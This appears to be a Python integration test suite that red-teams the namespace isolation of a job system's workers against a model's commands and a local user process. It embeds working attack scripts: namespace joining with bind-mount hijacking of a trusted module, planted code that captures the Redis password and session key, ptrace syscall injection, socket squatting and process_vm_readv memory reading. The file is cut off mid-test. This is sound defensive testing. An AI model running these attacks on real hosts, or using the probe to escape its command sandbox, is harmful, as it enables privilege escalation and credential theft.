"""Red team of an unprivileged host's namespace (commit 492d8ca, issue 28 item 3): a model that
controls one environment's commands, and a local process of the workers' own uid (an MCP server,
which runs as that user unsandboxed, or anything else the user runs), attack the user and mount
namespace the host's workers share, its holder, and the overlays mounted there.

Real workers run as a uid of their own (`unprivileged.OWN_IDS`) and share a host, as in
`test_env_namespace.py`. The "local process of the uid" is started by this (root) test through
`setpriv`, with no capability, no supplementary group and the system's python (the workers'
interpreter lies under /root, closed to that uid).

An attack that still succeeds is an `xfail(strict=True)` test asserting the safe behaviour: it
starts to pass (and so fails as XPASS) once the hole is closed."""

from __future__ import annotations

import json
import os
import secrets
import shutil
import signal
import subprocess
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
import redis

import toolq
from tests.integration import unprivileged
from tests.integration.conftest import TEST_TOOLS, WORKER_ENV
from tests.integration.test_env_namespace import advert, children, holder_of, mount_namespace
from tests.integration.test_env_namespace import start_workers as _start_workers
from tests.integration.test_env_worker import ask, exec_on, output, record_of
from toolq.core.environments import host_key
from toolq.workers.environments.host import _mount_points

pytestmark = pytest.mark.integration

UID, GID = unprivileged.OWN_IDS
PYTHON = "/usr/bin/python3"
#: A string only the holder's command line holds (its source is its `-c` argument).
HOLDER_MARK = "a process traces the holder"


@pytest.fixture
def top(tmp_path_factory):
    folder = unprivileged.worker_folder(True, tmp_path_factory, "hostile-ns", unprivileged.OWN_IDS)
    if not os.access(PYTHON, os.X_OK):
        pytest.skip(f"{PYTHON} is needed to play a local process of the workers' uid")
    (folder / "logs").mkdir()
    os.chown(folder / "logs", UID, GID)
    yield folder
    for point in sorted(_mount_points(), reverse=True):  # (none expected: the overlays are in the namespace)
        if point.startswith(str(folder) + "/"):
            subprocess.run(["umount", "-l", point], check=False)


def start_workers(redis_url: str, top: Path, host: str, n: int, tag: str = "") -> list[unprivileged.UserWorkerProcess]:
    return _start_workers(redis_url, top, n, host, tag)


def root_worker_of(redis_url: str, top: Path, host: str):  # -> WorkerProcess
    """The host's files given to root (`chown -R`, as an operator would), and a root worker of it."""
    from toolq.local.embedded import WorkerProcess

    subprocess.run(["chown", "-R", "0:0", str(top)], check=True)
    logs = top / "root-logs"
    logs.mkdir(exist_ok=True)
    worker = WorkerProcess(redis_url, queues=["toolq"], concurrency=2, tools=[TEST_TOOLS],
                           env={**WORKER_ENV, "TOOLQ_HOST_ID": host, "TOOLQ_ENV_ROOT": str(top / "envroot")},
                           logdir=logs, name=f"{host}root-{secrets.token_hex(2)}@hns")
    worker.start()
    return worker


@contextmanager
def overlay_worker(redis_url: str, r: redis.Redis, top: Path, host: str) -> Iterator[tuple]:
    """One worker of `host` in its host's namespace (an overlay host), and the namespace's holder."""
    (worker,) = start_workers(redis_url, top, host, 1)
    try:
        assert advert(r, host).mode == "overlay"
        holder = holder_of(top / "envroot")
        assert holder is not None
        yield worker, holder
    finally:
        worker.stop(grace=3)


def made_on(r: redis.Redis, host: str, tmp_path: Path, text: str):  # -> EnvironmentRecord
    """An environment of a project holding a.txt (`text`), made on `host` (an overlay host)."""
    assert advert(r, host).mode == "overlay"
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "a.txt").write_text(text)
    env = record_of(r, folder, host)
    assert ask(r, "create", env).ok
    return env


@contextmanager
def stranded(redis_url: str, r: redis.Redis, top: Path, host: str, tmp_path: Path) -> Iterator[tuple]:
    """A host's first worker with an environment whose command left kept.txt, its holder then
    SIGKILLed, and a second worker started after: yields (first, second, environment)."""
    root = top / "envroot"
    (first,) = start_workers(redis_url, top, host, 1, "a")
    second = None
    try:
        env = made_on(r, host, tmp_path, "from the base\n")
        made = exec_on(redis_url, host, env, "echo kept > kept.txt && echo DONE")
        assert "DONE" in output(made), made
        holder = holder_of(root)
        assert holder is not None
        os.kill(holder, signal.SIGKILL)
        (second,) = start_workers(redis_url, top, host, 1, "b")
        yield first, second, env
    finally:
        for w in (first, second):
            if w is not None:
                w.stop(grace=3)


def overlay_lines(pid: int, merged: Path) -> list[str]:
    """The overlay mounts on `merged` that process `pid` sees (its mountinfo)."""
    try:
        text = Path(f"/proc/{pid}/mountinfo").read_text()
    except OSError:
        return []
    return [line for line in text.splitlines() if f" {merged} " in line and " - overlay " in line]


def cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def as_local_user(script: str, *args: str, timeout: float = 30) -> subprocess.CompletedProcess:
    """`script` run by a local process of the workers' uid (not in any namespace of toolq's): no
    capability, no supplementary group, the system's python, isolated from its environment."""
    return subprocess.run(["setpriv", f"--reuid={UID}", f"--regid={GID}", "--clear-groups", "--inh-caps=-all",
                           "--", PYTHON, "-I", "-S", "-c", script, *args],
                          capture_output=True, text=True, timeout=timeout, cwd="/", env={"PATH": "/usr/bin:/bin"})


def printed(result: dict) -> str:
    return output(result).split("Output:", 1)[-1]


# ---- a local process of the workers' uid ------------------------------------------------------------

#: Join the holder's user and mount namespaces (the holder is dumpable; the namespace's owner is
#: this uid, so this process has every capability there), bind a file over one the workers'
#: trusted processes load, and kill the session host (a process of this uid: kill needs no
#: ptrace) so that the worker starts it again, inside the namespace.
JOIN_AND_OVERMOUNT = r"""
import ctypes, os, signal, sys
libc = ctypes.CDLL(None, use_errno=True)
holder, source, target, victim = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
for ns, flag in (("user", 0x10000000), ("mnt", 0x00020000)):
    fd = os.open("/proc/%d/ns/%s" % (holder, ns), os.O_RDONLY)
    if libc.setns(fd, flag) != 0:
        print("setns(%s): %s" % (ns, os.strerror(ctypes.get_errno())))
        sys.exit(1)
if libc.mount(source.encode(), target.encode(), None, 0x1000, None) != 0:  # MS_BIND
    print("mount: " + os.strerror(ctypes.get_errno()))
    sys.exit(1)
print("MOUNTED")
os.kill(victim, signal.SIGKILL)
print("KILLED")
"""

#: What runs in place of the session host: it writes down what a session host holds, the
#: fleet's Redis URL (its password) from its environment and the key it reads on its stdin.
STEAL = """
import json, os, sys
key = sys.stdin.readline().strip()
with open({marker!r}, "w") as f:
    json.dump({{"pid": os.getpid(), "uid": os.getuid(), "key_chars": len(key),
               "redis": os.environ.get("TOOLQ_SESSION_REDIS", ""),
               "names": sorted(k for k in os.environ if k.startswith(("TOOLQ", "REDIS")))}}, f)
sys.exit(3)
"""


def test_a_local_process_of_the_uid_cannot_mount_in_the_hosts_namespace_nor_run_code_in_a_trusted_process(
        redis_env, r, top):
    """Found open at 492d8ca: the holder was dumpable, so this process of the uid opened its
    /proc/<pid>/ns/*, held every capability there, bound its own file over the session host's
    module and killed the session host; the worker started it again inside, and the planted code
    wrote down TOOLQ_SESSION_REDIS (the Redis URL with its password) and the 64-character session
    key. Closed by ef14672 (the holder not dumpable, the namespace handed over a socket only to a
    worker that proves the fleet's key)."""
    host = "hnsj"
    with overlay_worker(redis_env.url, r, top, host) as (worker, holder):
        session_hosts = [c for c in children(worker.pid) if b"toolq.workers.sessions.host" in cmdline(c)]
        assert session_hosts, "the worker's session host was not found"
        # The attacker's own files, where its uid reaches them.
        mine = unprivileged.owned_dir("toolq-ns-attacker-", unprivileged.OWN_IDS)
        marker = mine / "stolen.json"
        evil = mine / "host.py"
        evil.write_text(STEAL.format(marker=str(marker)))
        os.chown(evil, UID, GID)
        target = Path(toolq.__file__).parent / "workers" / "sessions" / "host.py"
        done = as_local_user(JOIN_AND_OVERMOUNT, str(holder), str(evil), str(target), str(session_hosts[0]))
        end = time.monotonic() + (30 if "MOUNTED" in done.stdout else 2)
        while not marker.exists() and time.monotonic() < end:
            time.sleep(0.2)
        stolen = json.loads(marker.read_text()) if marker.exists() else None
        assert "MOUNTED" not in done.stdout and stolen is None, (done.stdout, done.stderr, stolen)
        shutil.rmtree(mine, ignore_errors=True)


#: From inside the host's user namespace (where an MCP server of the worker runs, with no
#: capability there), a process of the uid tries to take the holder's capabilities by ptrace: the
#: holder sleeps in clock_nanosleep; its registers are saved, a mount(2) of the attacker's file
#: over the target is run in it, and its registers are put back.
PTRACE_MOUNT = r"""
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, DETACH, GETREGS, SETREGS, PEEK, POKE, SINGLESTEP = 16, 17, 12, 13, 2, 5, 9
holder, source, target = int(sys.argv[1]), sys.argv[2].encode() + b"\0", sys.argv[3].encode() + b"\0"
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs").split()]
def check(v, what):
    if v == -1 and ctypes.get_errno():
        print(what + ": " + os.strerror(ctypes.get_errno())); sys.exit(1)
    return v
ctypes.set_errno(0)
check(libc.ptrace(ATTACH, holder, None, None), "attach")
os.waitpid(holder, 0x40000000)  # __WALL
saved = Regs()
check(libc.ptrace(GETREGS, holder, None, ctypes.byref(saved)), "getregs")
# Find a syscall instruction (0f 05) at or before rip: the holder stopped in one.
rip = saved.rip
word = ctypes.c_ulong(libc.ptrace(PEEK, holder, ctypes.c_void_p(rip - 2), None)).value
if word & 0xffff != 0x050f:
    print("no syscall at rip-2: %x" % word); sys.exit(1)
# The strings, on the holder's stack well below its red zone.
scratch = (saved.rsp - 4096) & ~0xf
data = source + target + b"overlay\0"
data += b"\0" * (-len(data) % 8)
saved_words = []
for i in range(0, len(data), 8):
    saved_words.append(libc.ptrace(PEEK, holder, ctypes.c_void_p(scratch + i), None))
    check(libc.ptrace(POKE, holder, ctypes.c_void_p(scratch + i),
                      ctypes.c_void_p(struct.unpack("<Q", data[i:i + 8])[0])), "poke")
regs = Regs.from_buffer_copy(saved)
regs.rip, regs.rax, regs.orig_rax = rip - 2, 165, 0xffffffffffffffff  # mount(2)
regs.rdi, regs.rsi, regs.rdx, regs.r10, regs.r8 = scratch, scratch + len(source), 0, 0x1000, 0
check(libc.ptrace(SETREGS, holder, None, ctypes.byref(regs)), "setregs")
check(libc.ptrace(SINGLESTEP, holder, None, None), "step")
os.waitpid(holder, 0x40000000)
after = Regs()
libc.ptrace(GETREGS, holder, None, ctypes.byref(after))
result = ctypes.c_longlong(after.rax).value
for i, w in enumerate(saved_words):
    libc.ptrace(POKE, holder, ctypes.c_void_p(scratch + 8 * i), ctypes.c_void_p(w & 0xffffffffffffffff))
libc.ptrace(SETREGS, holder, None, ctypes.byref(saved))
libc.ptrace(DETACH, holder, None, None)
print("MOUNTED" if result == 0 else "mount in the holder: " + os.strerror(-result))
"""


def test_a_process_inside_the_namespace_cannot_borrow_the_holders_capabilities(redis_env, r, top):
    """An MCP server runs as the workers' uid, unsandboxed, inside the host's user and mount
    namespace, with no capability there. The holder (dumpable, every capability there) would lend
    it them through ptrace; the kernel refuses a tracer whose permitted capabilities are not a
    superset of the tracee's (commoncap), so the attach fails and nothing is mounted."""
    host = "hnsp"
    with overlay_worker(redis_env.url, r, top, host) as (worker, holder):
        mine = unprivileged.owned_dir("toolq-ns-attacker-", unprivileged.OWN_IDS)
        (mine / "planted").write_text("planted by a process of the uid\n")
        os.chown(mine / "planted", UID, GID)
        (mine / "target").write_text("the original\n")
        os.chown(mine / "target", UID, GID)
        # As an MCP server of the worker runs: inside the holder's user and mount namespace, with
        # no capability there (nsenter as the uid, then an exec as a uid other than root drops the
        # capabilities the join gave; --preserve-credentials: the uid stays the workers').
        done = subprocess.run(
            ["setpriv", f"--reuid={UID}", f"--regid={GID}", "--clear-groups", "--inh-caps=-all", "--",
             "nsenter", f"--target={holder}", "--user", "--mount", "--preserve-credentials", "--",
             PYTHON, "-I", "-S", "-c", PTRACE_MOUNT, str(holder),
             str(mine / "planted"), str(mine / "target")],
            capture_output=True, text=True, timeout=30, cwd="/", env={"PATH": "/usr/bin:/bin"})
        # What a worker's process sees at the target now (the worker's namespace is the holder's).
        seen = subprocess.run(["nsenter", f"--target={worker.pid}", "--mount", "--", "cat", str(mine / "target")],
                              capture_output=True, text=True, timeout=30)
        assert holder_of(top / "envroot") == holder and os.path.exists(f"/proc/{holder}")
        assert "MOUNTED" not in done.stdout and "planted" not in seen.stdout, (done.stdout, done.stderr, seen.stdout)


# ---- the holder dies while a worker lives -------------------------------------------------------------

def test_a_holder_that_died_early_never_leaves_an_environment_mounted_twice(redis_env, r, top, tmp_path):
    with stranded(redis_env.url, r, top, "hnsd", tmp_path) as (first, second, env):
        merged = top / "envroot" / "envs" / env.id / "merged"
        assert overlay_lines(first.pid, merged)
        end = time.monotonic() + 30  # the reaper runs every 5 s
        while not overlay_lines(second.pid, merged) and time.monotonic() < end:
            time.sleep(0.5)
        both = {pid: overlay_lines(pid, merged) for pid in (first.pid, second.pid)}
        namespaces = {mount_namespace(first.pid), mount_namespace(second.pid)}
        mounted_twice = len(namespaces) == 2 and all(both.values())
        evidence = {"namespaces": sorted(namespaces), "mounts": both}
        if mounted_twice:
            # What two mounts of one upper dir do to the environment's files: the first mount
            # changes a base file (a copy-up through its own work dir, which the second mount
            # emptied and made again at its mount).
            wrote = subprocess.run(["nsenter", f"--target={first.pid}", "--mount", "--", "sh", "-c",
                                    f"echo changed >> {merged}/a.txt; echo rc=$?; cat {merged}/a.txt"],
                                   capture_output=True, text=True, timeout=30)
            evidence["first_mount_write"] = (wrote.stdout, wrote.stderr)
        assert not mounted_twice, evidence


# ---- a model's commands ---------------------------------------------------------------------------------

def test_a_command_neither_sees_nor_joins_the_holder_and_overlays_marks_it_sets_mean_nothing(redis_env, r, top,
                                                                                           tmp_path):
    host, root = "hnsc", top / "envroot"
    with overlay_worker(redis_env.url, r, top, host) as (worker, holder):
        folder = tmp_path / "project"
        (folder / "dir").mkdir(parents=True)
        (folder / "dir" / "b.txt").write_text("b\n")
        (folder / "a.txt").write_text("a\n")
        (folder / "gone.txt").write_text("gone\n")
        env = record_of(r, folder, host)
        assert ask(r, "create", env).ok
        probe = f"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
seen, mark = [], ("{HOLDER_MARK[:10]}" + "{HOLDER_MARK[10:]}").encode()
for p in filter(str.isdigit, os.listdir("/proc")):
    try:
        if mark in open("/proc/%s/cmdline" % p, "rb").read():
            seen.append(p)
    except OSError:
        pass
print("HOLDER_SEEN", seen)
for p in ("{holder}", "1"):
    for ns, flag in (("user", 0x10000000), ("mnt", 0x00020000)):
        try:
            fd = os.open("/proc/%s/ns/%s" % (p, ns), os.O_RDONLY)
        except OSError as e:
            print("OPEN", p, ns, e.errno)
            continue
        print("SETNS", p, ns, libc.setns(fd, flag), ctypes.get_errno())
for name in ("user.overlay.opaque", "user.overlay.whiteout", "user.overlay.redirect",
             "user.overlay.metacopy", "trusted.overlay.opaque", "user.overlay.origin"):
    for path in ("dir", "a.txt", "new.txt"):
        if not os.path.exists(path):
            open(path, "w").close()
        try:
            os.setxattr(path, name, b"y" if "redirect" not in name else b"/gone.txt")
            print("SET", name, path)
        except OSError as e:
            print("REFUSED", name, path, e.errno)
print("END")
"""
        ran = exec_on(redis_env.url, host, env, f"python3 -c '{probe}'")
        text = printed(ran)
        assert "END" in text, ran
        assert "HOLDER_SEEN []" in text, text
        assert "SETNS" not in text or all(line.split()[3] != "0" for line in text.splitlines()
                                            if line.startswith("SETNS")), text
        assert "SET trusted" not in text, text
        # Through the mount, overlayfs keeps a command's names of its own apart (escaped, as
        # user.overlay.overlay.*): the upper dir holds none of the marks that change what the
        # checkpoint reads (overlay's own `origin` of a copied-up directory may be there).
        upper = root / "envs" / env.id / "upper"
        for rel in ("dir", "a.txt", "new.txt"):
            names = os.listxattr(upper / rel, follow_symlinks=False)
            assert not {f"user.overlay.{m}" for m in ("opaque", "whiteout", "redirect", "metacopy")} & set(names), (
                rel, names)
        # Whatever names went through, the checkpoint reads only the mount's own marks, which no
        # command can write: no base file is dropped, none taken for moved, and it is not refused.
        taken = ask(r, "checkpoint", env)
        assert taken.ok and taken.diff is not None, taken
        assert "gone.txt" not in json.dumps(taken.diff.model_dump()).replace("new.txt", ""), taken.diff
        from toolq.core.environments import Checkpoint
        from toolq.workers.store.redis_store import RedisStore
        cp = Checkpoint.model_validate_json(RedisStore(r, ttl=600, max_bytes=64 << 20).get(taken.checkpoint or ""))
        assert cp.deleted == [] and "dir/b.txt" not in cp.changed, cp
        # ...and the environment's own view agrees: every base file still there.
        seen = exec_on(redis_env.url, host, env, "cat a.txt dir/b.txt gone.txt")
        assert printed(seen).split() == ["a", "b", "gone"], seen
        assert ask(r, "destroy", env).ok


# ---- a squatter on the holder's socket -------------------------------------------------------------------

SQUAT = r"""
import os, socket, sys
path = sys.argv[1]
os.unlink(path) if os.path.exists(path) else None
server = socket.socket(socket.AF_UNIX)
server.bind(path)
server.listen(4)
print("listening", flush=True)
mine = [os.open("/proc/self/ns/user", os.O_RDONLY), os.open("/proc/self/ns/mnt", os.O_RDONLY)]
while True:
    conn, _ = server.accept()
    with conn:
        conn.sendall(os.urandom(32))
        conn.recv(64)
        socket.send_fds(conn, [b"\0" * 32], mine)
"""


def test_a_squatter_on_the_holders_socket_strands_the_next_worker_and_is_never_joined(redis_env, r, top):
    """The holder killed, a process of the uid takes its socket's name and answers every join with
    descriptors of its own namespaces and a proof it cannot make (no fleet key). A worker started
    then is neither joined to the squatter's namespaces nor made a second namespace beside the
    living worker's: it is stranded (serves no environment) and says so."""
    host, root = "hnsq", top / "envroot"
    (first,) = start_workers(redis_env.url, top, host, 1, "a")
    squatter = second = None
    try:
        assert advert(r, host).mode == "overlay"
        holder = holder_of(root)
        assert holder is not None
        (sock,) = (root / "locks").glob("namespace-*.sock")
        os.kill(holder, signal.SIGKILL)
        squatter = subprocess.Popen(["setpriv", f"--reuid={UID}", f"--regid={GID}", "--clear-groups",
                                     "--inh-caps=-all", "--", "unshare", "--user", "--mount", "--map-current-user", "--",
                                     PYTHON, "-I", "-S", "-c", SQUAT, str(sock)],
                                    stdout=subprocess.PIPE, text=True, cwd="/", env={"PATH": "/usr/bin:/bin"})
        assert squatter.stdout is not None and squatter.stdout.readline().strip() == "listening"
        (second,) = start_workers(redis_env.url, top, host, 1, "b")
        end = time.monotonic() + 30
        while "this worker serves none" not in second.log.read_text():
            assert time.monotonic() < end, second.log.read_text()[-2000:]
            time.sleep(0.2)
        assert "does not prove this fleet's key" in second.log.read_text()
        assert mount_namespace(second.pid) != mount_namespace(squatter.pid)
        assert os.stat(f"/proc/{second.pid}/ns/user").st_ino != os.stat(f"/proc/{squatter.pid}/ns/user").st_ino
    finally:
        for w in (first, second):
            if w is not None:
                w.stop(grace=3)
        if squatter is not None:
            squatter.kill()
            squatter.wait()


# ---- the holder's end --------------------------------------------------------------------------------------

def test_the_holder_leaves_after_its_last_worker_is_killed_outright(redis_env, r, top):
    """SIGKILL of the worker's main process (no shutdown of its own): its pool children and
    session host go too, the members lock with them, and the holder follows (no namespace, and
    no mount in it, outlives the host's workers)."""
    host, root = "hnsk", top / "envroot"
    (worker,) = start_workers(redis_env.url, top, host, 1)
    family = []
    try:
        assert advert(r, host).mode == "overlay"
        holder = holder_of(root)
        assert holder is not None
        family = [worker.pid, *children(worker.pid)]
        os.kill(worker.pid, signal.SIGKILL)
        end = time.monotonic() + 60
        while os.path.exists(f"/proc/{holder}") and Path(f"/proc/{holder}/stat").read_text().split(")")[-1].split()[0] != "Z":
            if time.monotonic() > end:
                left = [p for p in family if os.path.exists(f"/proc/{p}")]
                pytest.fail(f"the holder {holder} outlived its killed worker; still alive: {left}")
            time.sleep(0.5)
    finally:
        for pid in family:
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        worker.stop(grace=1)


# ---- the same environments under a worker of another kind -------------------------------------------------

def test_an_environment_made_in_the_namespace_and_remounted_by_root_is_checkpointed_with_the_mounts_own_names(
        redis_env, r, top, tmp_path):
    """The host's workers move from a user of their own to root (or back), the same
    TOOLQ_ENV_ROOT: the reaper mounts the environments found on disk again, as the new worker
    mounts."""
    host, root = "hnsm", top / "envroot"
    (user_worker,) = start_workers(redis_env.url, top, host, 1)
    try:
        assert advert(r, host).mode == "overlay"
        folder = tmp_path / "project"
        (folder / "dir").mkdir(parents=True)
        (folder / "dir" / "b.txt").write_text("b\n")
        (folder / "a.txt").write_text("a\n")
        env = record_of(r, folder, host)
        assert ask(r, "create", env).ok
        assert json.loads((root / "envs" / env.id / "env.json").read_text())["xattrs"] == "user"
    finally:
        user_worker.stop(grace=3)
    holder_gone = time.monotonic() + 30
    while holder_of(root) is not None and time.monotonic() < holder_gone:
        time.sleep(0.2)
    r.delete(host_key(host))
    # The operator gives the host's files to the new worker's user, root.
    root_worker = root_worker_of(redis_env.url, top, host)
    try:
        merged = root / "envs" / env.id / "merged"
        end = time.monotonic() + 30  # the reaper mounts it again within 5 s
        while str(merged) not in _mount_points():
            assert time.monotonic() < end, "the root worker never mounted the environment again"
            time.sleep(0.3)
        mark = "import os; open('dir/new.txt', 'w').close(); os.setxattr('dir', 'user.overlay.opaque', b'y'); print('SET')"
        ran = exec_on(redis_env.url, host, env, f'python3 -c "{mark}"; cat dir/b.txt')
        seen = printed(ran).split()
        assert seen == ["SET", "b"], ran  # the name went through root's overlay; the base's file is still seen
        taken = ask(r, "checkpoint", env)
        assert taken.ok, taken
        from toolq.core.environments import Checkpoint
        from toolq.workers.store.redis_store import RedisStore
        cp = Checkpoint.model_validate_json(RedisStore(r, ttl=600, max_bytes=64 << 20).get(taken.checkpoint or ""))
        assert "dir/b.txt" not in cp.deleted, (seen, cp)
        assert ask(r, "destroy", env).ok
    finally:
        root_worker.stop(grace=3)


def test_an_environment_made_by_root_is_not_mounted_again_in_the_namespace_with_the_wrong_marks(
        redis_env, r, top, tmp_path):
    """Made by a root worker, its overlay marks are trusted.overlay.* attributes, which a worker in
    the host's namespace can neither read nor write: mounted there with userxattr, a folder a
    command removed and made again showed the base's files once more. Such a worker does not
    mount it again: its calls are answered not run and its files stay as the commands left them."""
    host, root = "hnsr", top / "envroot"
    root_worker = root_worker_of(redis_env.url, top, host)  # root's host first
    try:
        assert advert(r, host).mode == "overlay"
        folder = tmp_path / "project"
        (folder / "dir").mkdir(parents=True)
        (folder / "dir" / "b.txt").write_text("b\n")
        env = record_of(r, folder, host)
        assert ask(r, "create", env).ok
        ran = exec_on(redis_env.url, host, env, "rm -rf dir && mkdir dir && echo n > dir/n.txt && ls dir")
        assert printed(ran).split() == ["n.txt"], ran
    finally:
        root_worker.stop(grace=3)
    merged = root / "envs" / env.id / "merged"
    subprocess.run(["umount", "-l", str(merged)], check=False)  # as a machine's restart leaves it
    r.delete(host_key(host))
    subprocess.run(["chown", "-R", f"{UID}:{GID}", str(top)], check=True)  # the operator's move to a user
    (user_worker,) = start_workers(redis_env.url, top, host, 1)
    try:
        end = time.monotonic() + 60
        while "cannot mount it again" not in user_worker.log.read_text():  # its reaper tried
            assert time.monotonic() < end, user_worker.log.read_text()[-2000:]
            time.sleep(0.5)
        seen = exec_on(redis_env.url, host, env, "ls dir")
        assert seen["status"] == "rejected" and "not present" in output(seen), seen
        assert not ask(r, "create", env).ok  # a retried create neither remounts nor removes it
        upper = root / "envs" / env.id / "upper" / "dir"
        assert sorted(p.name for p in upper.iterdir()) == ["n.txt"]
    finally:
        user_worker.stop(grace=3)


def test_a_worker_stranded_beside_the_namespaces_workers_neither_refuses_nor_ends_their_environments(
        redis_env, r, top, tmp_path):
    """A worker started after the holder died (while workers live) cannot join their namespace
    and must not make a second one: it sees no mount of their environments. It serves none of
    the host's environments (it consumes none of their queues), so their calls, and a create
    request of one that exists (idempotent: an orchestrator's retry), reach the namespace's
    workers and never take the environment for lost or half-made."""
    host, root = "hnsx", top / "envroot"
    with stranded(redis_env.url, r, top, host, tmp_path) as (_, second, env):
        end = time.monotonic() + 30
        while "this worker serves none" not in second.log.read_text():
            assert time.monotonic() < end, second.log.read_text()[-2000:]
            time.sleep(0.2)
        # Calls of the environment, served by either worker.
        from concurrent.futures import ThreadPoolExecutor

        with ThreadPoolExecutor(6) as pool:
            ran = list(pool.map(lambda _: exec_on(redis_env.url, host, env, "cat kept.txt"), range(6)))
        refused = [output(x) for x in ran if "kept" not in output(x)]
        # A create of the environment that exists, taken by either worker.
        again = [ask(r, "create", env) for _ in range(4)]
        after = exec_on(redis_env.url, host, env, "cat kept.txt a.txt")
        upper = root / "envs" / env.id / "upper" / "kept.txt"
        assert not refused and all(a.ok for a in again) and printed(after).split() == ["kept", "from", "the", "base"], (
            refused, [(a.ok, a.mode, a.error) for a in again], output(after), upper.exists())
        assert ask(r, "destroy", env).ok


#: JOIN_AND_OVERMOUNT through whichever of the given processes lets this process of the uid open
#: its namespaces (a dumpable one).
JOIN_THROUGH_ANY = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
source, target, pids = sys.argv[1], sys.argv[2], sys.argv[3:]
for pid in pids:
    try:
        fds = [os.open("/proc/%s/ns/%s" % (pid, ns), os.O_RDONLY) for ns in ("user", "mnt")]
    except OSError as e:
        print("closed", pid, e.errno)
        continue
    if libc.setns(fds[0], 0x10000000) != 0 or libc.setns(fds[1], 0x00020000) != 0:
        print("setns", pid, os.strerror(ctypes.get_errno()))
        sys.exit(1)
    if libc.mount(source.encode(), target.encode(), None, 0x1000, None) != 0:
        print("mount", pid, os.strerror(ctypes.get_errno()))
        sys.exit(1)
    print("MOUNTED through", pid)
    sys.exit(0)
"""


def _in_namespace(worker_pid: int) -> dict[int, str]:
    """The uid's processes in the worker's mount namespace, with their command lines."""
    ns, found = mount_namespace(worker_pid), {}
    for p in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat(f"/proc/{p}/status").st_uid in (UID, 0) and mount_namespace(int(p)) == ns:
                found[int(p)] = cmdline(int(p)).replace(b"\0", b" ")[:100].decode(errors="replace")
        except OSError:
            continue
    return found


@pytest.mark.xfail(strict=True, reason=(
    "HOLE: the session host (and the MCP host) is exec'd after the worker joined, so its mm's user "
    "namespace is the host's, where a process of the uid outside holds CAP_SYS_PTRACE: its "
    "PR_SET_DUMPABLE 0 stops nobody of the uid, who opens its /proc/<pid>/ns/* and mounts"))
def test_while_a_session_runs_no_process_in_the_hosts_namespace_lets_a_local_process_of_the_uid_in(
        redis_env, r, top, tmp_path):
    """docs/security.md (what stays open): a process of the uid outside the namespace enters
    through any dumpable process inside, named as brief (a bwrap before its sandbox, git) or
    configured (an MCP server). With an exec_command session running, it tries every process in
    the host's mount namespace."""
    host = "hnso"
    (worker,) = start_workers(redis_env.url, top, host, 1)
    try:
        env = made_on(r, host, tmp_path, "a\n")
        from tests.integration.test_env_worker import live_conversation

        started = exec_on(redis_env.url, host, env, "sleep 60", conversation=live_conversation(r), yield_ms=500)
        assert "session id" in output(started).lower(), started
        time.sleep(1)
        inside = _in_namespace(worker.pid)
        mine = unprivileged.owned_dir("toolq-ns-attacker-", unprivileged.OWN_IDS)
        (mine / "planted").write_text("planted\n")
        (mine / "target").write_text("original\n")
        for f in ("planted", "target"):
            os.chown(mine / f, UID, GID)
        done = as_local_user(JOIN_THROUGH_ANY, str(mine / "planted"), str(mine / "target"), *map(str, inside))
        seen = subprocess.run(["nsenter", f"--target={worker.pid}", "--mount", "--", "cat", str(mine / "target")],
                              capture_output=True, text=True, timeout=30)
        shutil.rmtree(mine, ignore_errors=True)
        door = next((line for line in done.stdout.splitlines() if line.startswith("MOUNTED")), None)
        assert door is None and "planted" not in seen.stdout, (door and inside[int(door.split()[-1])], done.stdout,
                                                                 seen.stdout)
        assert ask(r, "destroy", env).ok
    finally:
        worker.stop(grace=3)


#: Read a process's writable memory with process_vm_readv (a ptrace access check, no file mode:
#: /proc/<pid>/mem of a process that is not dumpable is root's) and say whether `needle` is there.
READ_MEMORY = r"""
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
libc.process_vm_readv.restype = ctypes.c_ssize_t
libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_void_p, ctypes.c_ulong,
                                  ctypes.c_ulong]
pid, needle = int(sys.argv[1]), sys.argv[2].encode()
try:
    maps = open("/proc/%d/maps" % pid).read().splitlines()
except OSError as e:
    print("maps closed", e.errno)
    sys.exit(0)
errors = set()
for line in maps:
    span, perms = line.split()[:2]
    if not perms.startswith("rw"):
        continue
    lo, hi = (int(x, 16) for x in span.split("-"))
    buf = ctypes.create_string_buffer(hi - lo)
    local, remote = IOVec(ctypes.addressof(buf), hi - lo), IOVec(lo, hi - lo)
    n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if n < 0:
        errors.add(ctypes.get_errno())
        continue
    if needle in buf.raw[:n]:
        print("FOUND at %x" % lo)
        sys.exit(0)
print("not found", sorted(errors))
"""


@pytest.mark.xfail(strict=True, reason=(
    "HOLE: a process of the uid outside the namespace reads the session host's memory (the Redis "
    "password) with process_vm_readv: not dumpable, but exec'd after the worker joined, so its mm's "
    "user namespace is the host's, where that process holds CAP_SYS_PTRACE (before 492d8ca the "
    "session host was exec'd in the machine's user namespace and PR_SET_DUMPABLE 0 kept it out)"))
def test_a_local_process_of_the_uid_reads_no_secret_out_of_the_session_host(redis_env, r, top):
    """hardening.py: not dumpable, so a process of the same user reads nothing out of a worker's
    processes. Every process of the namespace is tried; the worker and its pool children (exec'd
    before the join) and the holder hold; the session host does not."""
    host = "hnsm2"
    (worker,) = start_workers(redis_env.url, top, host, 1)
    try:
        assert advert(r, host).mode == "overlay"
